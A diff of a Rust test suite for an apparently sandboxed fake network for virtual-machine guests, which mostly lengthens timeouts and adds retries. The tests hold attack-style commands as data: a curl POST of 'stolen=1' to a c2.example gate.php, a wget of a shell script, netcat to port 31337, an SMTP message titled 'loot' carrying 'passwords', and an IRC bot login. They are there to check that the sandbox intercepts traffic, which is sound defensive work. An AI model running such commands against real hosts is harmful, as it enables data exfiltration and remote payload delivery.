@@ -70,13 +70,13 @@ async fn a_guest_finds_names_pages_and_mail_servers() {
     let answer = net.sh("getent hosts c2.example; getent hosts C2.example").await;
     let addresses: Vec<&str> = answer.split_whitespace().filter(|word| word.starts_with("198.1")).collect();
     assert!(addresses.len() == 2 && addresses[0] == addresses[1], "{answer}");
-    let page = net.sh("curl -sS -m 20 -A evil/1 -d stolen=1 http://c2.example/gate.php 2>&1").await;
+    let page = net.sh("curl -sS -m 60 -A evil/1 -d stolen=1 http://c2.example/gate.php 2>&1").await;
     assert!(page.contains("c2.example is up"), "{page}");
     // The certificate is checked: its authority is one that the guest trusts.
-    let page = net.sh("curl -sS -m 20 https://secure.example/data.json 2>&1").await;
+    let page = net.sh("curl -sS -m 60 https://secure.example/data.json 2>&1").await;
     assert_eq!(page, "{\"status\":\"ok\"}\n");
     let python =
-        "import urllib.request as u; print(u.urlopen('https://198.51.100.7:8443/x.txt', timeout=20).read())";
+        "import urllib.request as u; print(u.urlopen('https://198.51.100.7:8443/x.txt', timeout=60).read())";
     assert_eq!(net.sh(&format!("python3 -c \"{python}\" 2>&1")).await, "b'OK\\n'\n");
     assert!(net.sh("wget -q -O- http://203.0.113.9:4711/a.sh 2>&1").await.starts_with("#!/bin/sh"));
     let said = net.sh("printf 'hello\\nmore\\n' | nc -q 2 -w 5 192.0.2.77 31337").await;
@@ -86,7 +86,7 @@ async fn a_guest_finds_names_pages_and_mail_servers() {
             .await
             .contains("220 Service")
     );
-    let mail = "import smtplib; s=smtplib.SMTP('mail.example',587,timeout=20); s.starttls(); s.login('me','secret'); \
+    let mail = "import smtplib; s=smtplib.SMTP('mail.example',587,timeout=60); s.starttls(); s.login('me','secret'); \
                 s.sendmail('a@b.example',['c@d.example'],'Subject: loot\\n\\n.dot\\npasswords'); s.quit(); print('sent')";
     assert_eq!(net.sh(&format!("python3 -c \"{mail}\" 2>&1")).await, "sent\n");
     let chat = net.sh("(printf 'NICK bot\\r\\nUSER b 0 * :b\\r\\nJOIN #c\\r\\nPRIVMSG #c :ready\\r\\nQUIT\\r\\n'; sleep 1) | nc -w 5 irc.example 6667").await;
@@ -189,7 +189,7 @@ async fn nothing_reaches_a_real_network() {
 async fn two_guests_never_see_each_other() {
     let Some(qemu) = qemu() else { return };
     let (one, other) = (connect(&qemu, Route::Fake).await, connect(&qemu, Route::Fake).await);
-    let listening = "python3 -m http.server 8000 >/dev/null 2>&1 & p=$!; sleep 4; curl -sS -m 2 http://127.0.0.1:8000/ | head -c 9; kill $p";
+    let listening = "python3 -m http.server 8000 >/dev/null 2>&1 & p=$!; curl -s --retry 60 --retry-delay 1 --retry-connrefused http://127.0.0.1:8000/ | head -c 9; kill $p";
     let knocking = "for i in 1 2 3; do curl -sS -m 3 http://10.0.2.15:8000/ 2>&1; arping -c1 10.0.2.16 2>/dev/null; sleep 1; done; echo over";
     let (heard, said) = tokio::join!(one.sh(listening), other.sh(knocking));
     assert_eq!(heard, "<!DOCTYPE");
@@ -212,7 +212,8 @@ async fn a_guest_gets_a_lease_an_echo_and_the_time_of_its_task() {
     assert_eq!(echo, "198.51.100.1 0 b'ping of a guest'\n");
     let time = net.sh(&format!("python3 - <<'E' 2>&1\n{TIME}\nE")).await;
     assert!(time.starts_with("2031-05-06 07:"), "{time}");
-    assert!(net.sh("curl -sS -m 20 -I https://later.example/ 2>&1").await.contains("06 May 2031"));
+    let head = net.sh("curl -sS -m 60 -I https://later.example/ 2>&1").await;
+    assert!(head.contains("06 May 2031"), "{head}");
     let events = net.end().await;
     assert!(events.iter().any(
         |event| matches!(event, Event::Dhcp { host_name, .. } if host_name.as_deref() == Some("victim"))
@@ -229,7 +230,7 @@ const LEASE: &str = r#"
 import socket, struct
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.setsockopt(socket.SOL_SOCKET, 25, b'eth0')
-s.bind(('', 68)); s.settimeout(10)
+s.bind(('', 68)); s.settimeout(60)
 mac = bytes.fromhex(open('/sys/class/net/eth0/address').read().strip().replace(':', ''))
 def ask(kind, extra=b''):
     head = struct.pack('!BBBBIHH4s4s4s4s', 1, 1, 6, 0, 77, 0, 0x8000, *[bytes(4)] * 4) + mac + bytes(10 + 192)
@@ -243,7 +244,7 @@ ask(3, bytes([50, 4, 10, 0, 2, 99]))
 
 const ECHO: &str = r#"
 import socket, struct
-s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(10)
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(60)
 def total(data):
     words = sum(struct.unpack('!%dH' % (len(data) // 2), data))
     words = (words >> 16) + (words & 0xffff)
@@ -258,7 +259,7 @@ print(sender[0], got[20], got[28:])
 
 const TIME: &str = r#"
 import socket, struct, datetime
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(60)
 s.sendto(b'\x23' + bytes(39) + b'tokenxyz', ('pool.ntp.org', 123))
 got = s.recv(100)
 assert got[24:32] == b'tokenxyz'
